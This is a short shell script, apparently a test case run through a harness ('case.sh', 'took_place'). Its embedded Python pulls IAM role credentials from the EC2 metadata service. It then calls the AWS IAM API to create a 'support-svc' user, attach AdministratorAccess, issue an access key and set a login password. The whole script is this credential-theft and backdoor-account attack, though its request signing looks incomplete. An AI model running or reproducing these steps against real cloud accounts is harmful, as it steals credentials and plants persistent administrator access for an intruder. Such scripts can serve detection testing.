#!/bin/sh
. /opt/case/case.sh

python3 -c '
import json, urllib.request as u
m = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
role = u.urlopen(m).read(); k = json.load(u.urlopen(m + "web-credentials"))
for a in ("CreateUser&UserName=support-svc", "AttachUserPolicy&UserName=support-svc&PolicyArn=arn:aws:iam::aws:policy/AdministratorAccess", "CreateAccessKey&UserName=support-svc", "CreateLoginProfile&UserName=support-svc&Password=Bait1!"):
    r = u.Request("http://iam.amazonaws.com/?Action=" + a, headers={"Authorization": "AWS4-HMAC-SHA256 Credential=" + k["AccessKeyId"] + "/20261130/us-east-1/iam/aws4_request", "X-Amz-Security-Token": k["Token"]})
    assert u.urlopen(r).status == 200'
took_place
